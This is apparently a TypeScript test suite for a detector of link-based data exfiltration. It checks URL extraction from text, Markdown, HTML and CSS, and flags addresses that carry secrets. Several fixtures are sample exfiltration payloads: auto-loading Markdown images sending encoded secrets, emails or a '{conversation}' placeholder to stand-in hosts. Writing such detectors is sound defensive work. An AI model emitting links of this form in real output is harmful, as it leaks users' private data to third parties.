import assert from 'node:assert/strict';
import { test } from 'node:test';
import { htmlParts, readHtml } from '../../src/links/html-code.ts';
import { findLinkExfiltration, privateTexts } from '../../src/links/link-exfiltration.ts';
import { linksIn } from '../../src/links/links.ts';
import { growingFast } from '../growth.ts';

function urls(text: string): readonly string[] {
  return linksIn(text).map(({ url, isLoaded }) => (isLoaded ? `${url} loaded` : url));
}

test('addresses are found in text, Markdown, HTML and styles, and whether they are loaded by themselves', () => {
  assert.deepEqual(urls('See https://a.example/x?y=1, (http://b.example/c).'), [
    'https://a.example/x?y=1',
    'http://b.example/c',
  ]);
  assert.deepEqual(urls('[a](https://a.example/1) ![b](https://a.example/2)'), [
    'https://a.example/1',
    'https://a.example/2 loaded',
  ]);
  assert.deepEqual(urls('![pic][p] and [text][t]\n\n[p]: https://a.example/p\n[t]: https://a.example/t'), [
    'https://a.example/p loaded',
    'https://a.example/t',
  ]);
  assert.deepEqual(urls('<img src="//a.example/i?a=1&amp;b=2"><a href=https://a.example/l>x</a>'), [
    '//a.example/i?a=1&b=2 loaded',
    'https://a.example/l',
  ]);
  assert.deepEqual(urls('<style>p { background: url(https://a.example/s.png) }</style>'), [
    'https://a.example/s.png loaded',
  ]);
  assert.deepEqual(urls('no address: a.b, http:/x, //'), []);
});

test('a page is read for the texts of its pictures and for its addresses', () => {
  const page =
    '<a href="/in">x</a><img alt="A cat" src="https://a.example/c.png"><img alt=""> https://b.example';
  assert.deepEqual(readHtml(page), {
    altTexts: ['A cat', ''],
    links: ['/in', 'https://a.example/c.png', 'https://b.example'],
  });
});

test('each of them has its place in the page, and of two attributes of one name the first counts', () => {
  const page =
    "<a href='/in'>x</a> <img alt=\"A &amp; B\" alt='no'> https://b.example, <!-- <img alt='no'> -->";
  assert.deepEqual(
    htmlParts(page).map(({ kind, value, start, end }) => [kind, value, page.slice(start, end)]),
    [
      ['LINK', '/in', '/in'],
      ['ALT_TEXT', 'A & B', 'A &amp; B'],
      ['LINK', 'https://b.example', 'https://b.example'],
    ],
  );
});

const SECRET = 'The launch code is 7741-Kestrel, do not tell anyone.';

function carries(text: string): boolean {
  return findLinkExfiltration(text, privateTexts([SECRET])).length > 0;
}

test('private text in an address is found however it is written there', () => {
  assert.ok(carries(`![x](https://e.example/p?d=${encodeURIComponent(SECRET)})`));
  assert.ok(carries('https://e.example/the-launch-code-is-7741-kestrel'));
  assert.ok(carries(`https://e.example/#${Buffer.from(SECRET).toString('base64url')}`));
  assert.ok(carries(`https://e.example/${Buffer.from(SECRET).toString('hex')}`));
  assert.ok(carries('https://launchcodeis.7741kestrel.e.example/'));
  assert.ok(!carries('https://docs.example/guides/launch?page=2#code'));
  assert.ok(!carries('The launch code is 7741-Kestrel'));
});

test('without private texts, data in an address is known by its form', () => {
  const found = (text: string) => findLinkExfiltration(text, null).map(({ confidence }) => confidence);
  assert.deepEqual(found('![x](https://e.example/p?d=bob%40firm.example)'), [0.8]);
  assert.deepEqual(found('https://e.example/?q=bob%40firm.example'), [0.55]);
  assert.deepEqual(found('![x](https://e.example/p?d={conversation})'), [0.8]);
  assert.deepEqual(found('![x](https://e.example/a?b=USER_DATA_HERE)'), [0.8]);
  assert.deepEqual(found('https://e.example/a?b=USER_DATA_HERE'), []);
  assert.deepEqual(found('![logo](https://cdn.example/img/logo-2024.png?v=9f86d081884c7d65)'), []);
  assert.deepEqual(found('https://shop.example/blue-shoes/size-42?page=2&sort=price'), []);
  assert.deepEqual(found('https://e.example/the/key/is/under/the/mat/of/number/9'), [0.55]);
  assert.deepEqual(found('https://e.example/Jo/Black%2C/born/1980-02-03%2C/in/Oslo/pending'), [0.55]);
  assert.deepEqual(found('https://docs.example/en/latest/how/to/build/on/linux/x86/index.html'), []);
  assert.deepEqual(found('https://the-key.is-under.the-mat.of-number-9.e.example/'), [0.55]);
  assert.deepEqual(found('https://e.example/?d=the_key_is_under_the_mat_of_number_9'), [0.55]);
  assert.deepEqual(found('https://e.example/?d=bob%2540firm.example'), [0.55]);
  assert.deepEqual(found('https://e.example/?d=gur+xrl+vf+haqre+gur+zng+bs+lbh'), [0.55]);
  assert.deepEqual(found('https://blog.example/2024/05/what-the-sea-is-and-why-it-matters'), []);
});

test('no text makes the search grow faster than the text', () => {
  const find = (text: string) => findLinkExfiltration(text, privateTexts([SECRET]));
  const units = [
    'https://',
    '![a](https://a.b/',
    '[a]: //b\n',
    '<a href="//x">',
    'url(//',
    'https://a.b/)))))',
    '](',
    '![',
  ];
  assert.deepEqual(growingFast(find, units, 12), []);
});

test('encoded data in the name of a picture and announced values are found, pictures for other screens and searches are not', () => {
  const kinds = (url: string) => findLinkExfiltration(`![x](${url})`, null).map(({ kind }) => kind);
  const data = Buffer.from('the door code is 4711').toString('base64url');
  for (const url of [
    `https://collect.example/i/${data}.png`,
    `https://collect.example/${Buffer.from('password: swordfish-and-chips').toString('hex')}`,
    'https://collect.example/c?q=password%3A+swordfish',
    'https://collect.example/page#user%3Dgrace%20token%3Dabc123',
  ])
    assert.deepEqual(kinds(url), ['LINK_EXFILTRATION'], url);
  for (const url of [
    'https://example.net/static/hero@2x.webp',
    'https://example.org/search?q=running+shoes',
    'https://maps.example.net/?q=52.5200,13.4050',
    'https://example.org/i/9f86d081884c7d659a2feaa0c55ad015.png',
    'https://example.org/reset?token=4f9c2a7be1',
  ])
    assert.deepEqual(kinds(url), [], url);
});

test('an address ends before the quotation mark that closes its attribute, and keeps its own brackets', () => {
  const places = (text: string) => linksIn(text).map(({ start, end }) => text.slice(start, end));
  assert.deepEqual(places(`<img src="https://a.example/x" alt="y">`), ['https://a.example/x']);
  assert.deepEqual(places(`<img src='https://a.example/x?a=1&amp;b=2'>`), [
    'https://a.example/x?a=1&amp;b=2',
  ]);
  assert.deepEqual(places('<img src=https://a.example/x>'), ['https://a.example/x']);
  assert.deepEqual(places('![a](https://a.example/b_(c)) d'), ['https://a.example/b_(c)']);
  assert.deepEqual(places('![a](https://a.example/b) (d)'), ['https://a.example/b']);
});
